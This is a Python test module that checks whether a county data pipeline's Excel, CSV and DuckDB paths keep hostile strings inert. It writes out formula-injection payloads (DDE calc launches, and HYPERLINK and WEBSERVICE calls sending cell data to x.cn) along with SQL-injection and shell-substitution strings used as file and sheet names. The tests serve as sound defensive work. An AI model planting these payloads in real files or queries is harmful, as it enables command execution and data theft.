"""A thousand strings that want to be formulas or links, out through every writer: none becomes one, each stays text."""

from __future__ import annotations

import csv
import io
import random
import zipfile
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import polars as pl

from pipelines.county import County
from pipelines.deliver.paper import PaperColumn, PaperSheet
from pipelines.deliver.workbook import workbook_bytes
from pipelines.intake.ledger import read_receipts
from pipelines.intake.receive import receive
from pipelines.intake.returns import write_returns
from pipelines.warehouse.identity import RunIdentity
from pipelines.warehouse.load import load_raw
from pipelines.what_if.comparison import Comparison, write_households
from tests.faults.kernel.small_county import worker_id
from tests.unit.intake.small_county import xlsx_bytes

CELLS = 1_000
STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "=@", "{=", "＝", "－", "http://", "https://", "ftp://", "mailto:",
    "file:///", "\\\\host\\", "internal:", "external:", "javascript:", "\u202e=", "\ufeff=", "\u200b=", "%0A=", ";=", ",=", '"=',
)  # fmt: skip
BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.cn/?q="&A1,"点我")', 'WEBSERVICE("http://x.cn")', "x.cn/a?b=c",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(CONCAT(\"http://x.cn\"),\"//a\")", "Sheet1!A1", "a@x.cn", "{1,2}", "REGISTER.ID(1)",
)  # fmt: skip


def hostile_cells() -> list[str]:
    """Beginnings, bodies and ends put together at random; always the same."""
    chance = random.Random(1000)
    ends = ("", " ", "\n=1", "\x00", '"', "}", "；公式", "<f>1</f>", "]]>", "&amp;")
    return [chance.choice(STARTS) + chance.choice(BODIES) + chance.choice(ends) for _ in range(CELLS)]


def active_parts(content: bytes) -> list[str]:
    """The parts of a workbook that hold a formula, a link, a connection or a macro."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            part = package.read(name)
            if any(mark in part for mark in (b"<f>", b"<f ", b"<hyperlink", b'TargetMode="External"', b"<ddeLink")):
                found.append(name)
            if any(word in name for word in ("vba", "externalLink", "connections", "activeX", "embeddings")):
                found.append(name)
    return found


def texts_of(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def test_papers_hold_a_thousand_hostile_cells_as_text() -> None:
    cells = hostile_cells()
    columns = (
        PaperColumn("text", "=标题()", 20),
        PaperColumn("again", "http://x.cn", 20, is_entry=True, choices=("=1", "@a")),
    )
    sheet = PaperSheet(
        "表", cells[0], cells[1], date(2020, 11, 25), cells[2], columns, pl.DataFrame({"text": cells, "again": cells}),
        totals={"text": cells[3]}, notes=tuple(cells[4:9]), lines=tuple(cells[9:14]), signatures=tuple(cells[14:17]),
    )  # fmt: skip
    content = workbook_bytes([sheet], meta=[tuple(cells[:50])], protect=True)
    shown = texts_of(content)
    kept = [cell.replace("\x00", "").replace("\r", "") for cell in cells]
    print(f"\n{2 * len(cells)} hostile cells on papers: {len(active_parts(content))} formulas or links")
    assert active_parts(content) == []
    assert all(shown.count(text) >= 2 for text in set(kept))


def test_returned_rows_go_back_as_the_text_they_were(tmp_path: Path) -> None:
    """Rejected rows go from a department's file through the lake into the workbook it gets back."""
    (tmp_path / "county.yml").write_text("name: 样例县\nregion: '350123'\ndocuments: [FQ]\n", encoding="utf-8")
    county = County.open(tmp_path)
    folder = county.landing / "employment"
    folder.mkdir(parents=True)
    cells = [cell.replace("\x00", "") for cell in hostile_cells()]
    with (folder / "2020-01.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["证件号码", "姓名", "月份", "务工单位", "就业类型", "工资收入"])
        writer.writerows([worker_id(1), cell, "2020-01", cell, "县内务工", "很多"] for cell in cells)
    (county.landing / "received.csv").write_text("file,received_on,order\nemployment/2020-01.csv,2020-01-28,1\n")
    (receipt,) = receive(county)
    assert (receipt.rows, receipt.rejected) == (CELLS, CELLS)
    (file,) = write_returns(county)
    content = file.read_bytes()
    assert active_parts(content) == []
    shown = set(texts_of(content))
    assert len({cell for cell in cells if cell in shown}) > 0.9 * len(set(cells)), "few cells came back as they were"


def test_a_csv_for_excel_starts_no_formula(tmp_path: Path) -> None:
    rows = tuple((f"{n}", cell, cell, cell, "进") for n, cell in enumerate(hostile_cells()))
    write_households(Comparison(date(2020, 1, 1), (), rows), tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert len(cells) == 5 * (CELLS + 1)
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_hostile_names_reach_neither_sql_nor_a_path(tmp_path: Path) -> None:
    """Names of files, sheets and columns that are SQL or paths: they are only data, all the way into the warehouse."""
    (tmp_path / "county.yml").write_text("name: 样例县\nregion: '350123'\ndocuments: [FQ]\n", encoding="utf-8")
    county = County.open(tmp_path)
    folder = county.landing / "employment"
    folder.mkdir(parents=True)
    tricks = [
        "'; DROP SCHEMA raw CASCADE; --",
        '"); COPY x TO $$p$$; --',
        "$1",
        "{view}",
        "read_csv('x')",
        "a*b?[1]",
        "..",
        "$(id)",
    ]
    for number, trick in enumerate(tricks):
        header = ["证件号码", "月份", "务工单位", "工资收入", trick]
        rows = [[worker_id(n), "2020-01", trick, 1000 + n, trick] for n in (1, 2, 3)]
        sheet = "".join(letter for letter in trick if letter not in "[]:*?/\\'")[:31] or "表"
        content = xlsx_bytes([header, *rows], sheet=sheet) if number % 2 else xlsx_bytes([header, *rows])
        (folder / f"2020-01-{trick.replace('/', '')}.xlsx").write_bytes(content)
    dated = "".join(
        f'"employment/{file.name.replace(chr(34), chr(34) * 2)}",2020-01-28,1\n' for file in folder.iterdir()
    )
    (county.landing / "received.csv").write_text("file,received_on,order\n" + dated, encoding="utf-8")
    receipts = receive(county)
    assert [receipt.loaded for receipt in receipts] == [3] * len(tricks), [receipt.refused for receipt in receipts]
    warehouse = tmp_path / "warehouse.duckdb"
    load_raw(county, warehouse, RunIdentity("x", date(2020, 1, 31), date(2020, 12, 31), "test"))
    with duckdb.connect(warehouse, read_only=True) as reader:
        files = reader.execute("SELECT _file, count(*) FROM raw.employment GROUP BY ALL ORDER BY ALL").fetchall()
        views = reader.execute(
            "SELECT count(*) FROM duckdb_views() WHERE schema_name = 'raw' AND NOT internal"
        ).fetchall()
    assert files == sorted((receipt.file, 3) for receipt in read_receipts(county))
    assert views[0][0] > 20
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "county.yml",
        "keys",
        "lake",
        "landing",
        "warehouse.duckdb",
    ]
